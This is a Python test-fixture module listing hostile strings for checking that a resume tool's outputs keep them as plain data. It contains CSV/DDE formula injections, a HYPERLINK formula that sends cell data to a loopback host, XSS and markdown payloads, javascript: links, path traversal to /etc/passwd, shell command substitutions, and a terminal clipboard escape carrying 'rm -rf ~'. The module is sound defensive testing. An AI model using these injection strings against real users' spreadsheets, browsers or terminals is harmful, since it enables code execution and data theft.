"""Strings that a resume or a file name may hold to harm whoever reads the output: data for the tests of every format.

Each group is what one kind of output must survive; `ALL` is all of them. `NAMES` are those that can name a file on a
POSIX system. A test of a format puts each into every field that comes from a resume, and asks whether it is still data.
"""

from __future__ import annotations

from typing import Final

# What spreadsheets take for a formula: OWASP's list of first characters, also behind white space, quotes and marks that
# are not seen, and in the wide forms that some programs fold.
FORMULAS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")',
    '=IMPORTXML("http://127.0.0.1:9/","//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1',
    "'=1+1",
    '",=1+1,"',
    ";=1+1",
    "a\n=1+1",
    'a"\n=1+1,"',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "|calc",
    "%0A=1+1",
    'DDE("cmd";"/C calc";"!A0")',
)

# What ends a field, a row or a record.
SEPARATORS: Final = (
    'a"b',
    'a""b',
    "a,b",
    "a;b",
    "a\tb",
    "a|b",
    "a\nb",
    "a\rb",
    "a\r\nb",
    "a\x0bb",
    "a\x0cb",
    "a\x1cb\x1db\x1eb",
    "a\x85b",
    "a\u2028b",
    "a\u2029b",
    "\\",
    'a\\"b',
    "a\\nb",
)

# What a browser would run, load or follow.
HTML: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://127.0.0.1:9/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//127.0.0.1:9/>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>",
    "<form action=http://127.0.0.1:9/><input name=a>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" style="background:url(http://127.0.0.1:9/)',
    "x onfocus=alert(1) autofocus",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "&",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}{{ 7*7 }}",
    "expression(alert(1))",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)

# Link targets that are none: only http, https and mailto may become a link.
LINKS: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "blob:https://github.com/x",
    'https://github.com/x" onmouseover="alert(1)',
    "https://github.com/x'><script>alert(1)</script>",
    "https://github.com@127.0.0.1:9/",
    "//127.0.0.1:9/x",
    "https://github.com/\u202egpj.exe",
)

# Markdown that would become markup, a link or a loaded picture.
MARKDOWN: Final = (
    "![x](http://127.0.0.1:9/x.png)",
    "[x](javascript:alert(1))",
    "[x]: http://127.0.0.1:9/",
    "<http://127.0.0.1:9/>",
    "http://127.0.0.1:9/",
    "| a | b |",
    "a | b",
    "# Heading",
    "a\n# Heading",
    "- item",
    "1. item",
    "> quote",
    "---",
    "```",
    "a ` b `` c ``` d",
    "~~~",
    "*bold* __bold__ ~~gone~~",
    "<b>bold</b>",
    "    code",
    "\\*",
    "$$x$$",
    "@someone #1",
)

# What a terminal obeys, and what rich takes for markup.
TERMINAL: Final = (
    "\x1b[2J\x1b[H",
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://127.0.0.1:9/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x07\x08\x08\x08",
    "a\rb",
    "\x00",
    "\x7f",
    "[bold red]markup[/bold red]",
    "[link=http://127.0.0.1:9/]click[/link]",
    "[/]",
)

# What turns the direction of text, hides it, or makes one word look like another.
BIDI: Final = (
    "\u202egpj.exe",
    "a\u202eb\u202cc",
    "\u2066a\u2067b\u2068c\u2069",
    "\u200ea\u200fb\u061cc",
    "a\u200bb\u200cc\u200dd\u2060e",
    "\ufeffa",
    "\u00ada",
    "\u0430pple",
    "e" + "\u0301" * 200,
    "\U000e0041\U000e0042",
    "\ufdfd" * 20,
)

# What is no text: half surrogate pairs, as broken font maps and names that are not UTF-8 make them; non-characters.
SURROGATES: Final = (
    "\ud800",
    "\udfff",
    "a\udce9b",
    "\udc80.pdf",
    "\ude00\ud83d",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\ufffd",
)

# What file systems, shells and number readers take for something else.
ODD: Final = (
    "",
    " ",
    ".",
    "..",
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "-rf",
    "--output",
    "$(touch here)",
    "`touch here`",
    "; touch here",
    "NUL",
    "nan",
    "inf",
    "1e999",
    "0x10",
    "null",
    "true",
    "%s%n%x",
    "{0}",
    "a" * 10_000,
    "\U0001f9d1\u200d\U0001f52c" * 50,
)

GROUPS: Final = {
    "formulas": FORMULAS,
    "separators": SEPARATORS,
    "html": HTML,
    "links": LINKS,
    "markdown": MARKDOWN,
    "terminal": TERMINAL,
    "bidi": BIDI,
    "surrogates": SURROGATES,
    "odd": ODD,
}
ALL: Final = tuple(dict.fromkeys(text for group in GROUPS.values() for text in group))


def _is_name(text: str) -> bool:
    """Whether a POSIX system takes it, with an ending put behind it, for the name of one file."""
    if "/" in text or "\x00" in text:
        return False
    try:
        return len(text.encode("utf-8", "surrogateescape")) <= 240
    except UnicodeEncodeError:
        return False


NAMES: Final = tuple(text for text in ALL if _is_name(text))
